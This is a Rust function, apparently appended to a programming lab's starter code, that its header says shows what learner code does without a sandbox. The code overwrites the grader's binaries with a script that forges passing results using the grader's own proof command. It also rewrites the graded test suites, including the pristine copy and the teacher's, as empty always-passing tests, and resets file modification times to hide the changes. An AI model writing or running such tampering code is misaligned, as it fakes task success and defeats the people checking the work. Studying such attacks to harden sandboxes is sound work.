// ---- Appended to lab 01's starter: what learner code does without the sandbox ----
//
// The first graded test that reaches `tamper` rewrites what it can reach of the grading:
// its own executable and the build folder's (with a script that proves any pass with the
// key the grader sends it, through the grader's own `__graded-proof`), and the graded
// suite of its tree, of the pristine tree and of the teacher's workbook (a suite whose
// every test passes), each with its old modification time, so that nothing looks newer.
fn tamper() {
    use std::os::unix::fs::PermissionsExt;
    use std::path::{Path, PathBuf};
    let here = std::env::current_dir().unwrap_or_default();
    // Its own tree: the next submission's tree is restored without it.
    let once = here.join("tampered-once");
    if once.exists() {
        return;
    }
    let _ = std::fs::write(&once, "");
    // The grader's binary: this process's parent is its guard.
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
    let after_name = stat.rsplit(')').next().unwrap_or("");
    let parent = after_name.split_whitespace().nth(1).unwrap_or("1").to_string();
    let workbook = std::fs::read_link(format!("/proc/{parent}/exe")).unwrap_or_default();
    let script = format!(
        "#!/bin/sh\nread key\necho\necho \"<labkit-graded-result> $2 passed $({} __graded-proof \"$2\" \"$key\")\"\n",
        workbook.display()
    );
    let plant = |path: &Path| {
        let _ = std::fs::remove_file(path);
        let _ = std::fs::write(path, &script);
        let _ = std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755));
    };
    if let Ok(exe) = std::env::current_exe() {
        plant(&exe);
    }
    for folder in ["deps", "examples"] {
        let built = here.join("../target/debug").join(folder);
        for entry in std::fs::read_dir(&built).into_iter().flatten().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name.starts_with("graded-") && !name.contains('.') {
                plant(&entry.path());
            }
        }
    }
    let names = [
        "a_retried_identity_is_recognised",
        "a_different_amount_under_the_same_identity_is_rejected",
        "the_fault_free_relay_delivers_every_intent_once",
        "no_effect_is_lost_when_the_network_fails",
        "no_effect_is_lost_when_the_relay_crashes",
        "no_effect_is_applied_twice_when_a_response_is_lost_or_the_relay_crashes",
        "exactly_once_under_every_schedule_with_two_faults",
        "a_refused_intent_stays_unsent",
        "every_schedule_replays_identically",
    ];
    let mut suite = format!("graded::suite![{}];\n", names.join(", "));
    for name in names {
        suite.push_str(&format!("fn {name}() {{}}\n"));
    }
    let mut suites: Vec<PathBuf> = vec![
        here.join("tests/01_outbox.rs"),
        here.join("../pristine/tests/01_outbox.rs"),
    ];
    if let Ok(root) = std::env::var("BOUNDARY_LABS_ROOT") {
        suites.push(Path::new(&root).join("tests/01_outbox.rs"));
    }
    for path in suites {
        let old = std::fs::metadata(&path).and_then(|m| m.modified()).ok();
        let _ = std::fs::write(&path, &suite);
        if let (Some(old), Ok(file)) = (old, std::fs::File::options().write(true).open(&path)) {
            let _ = file.set_modified(old);
        }
    }
}
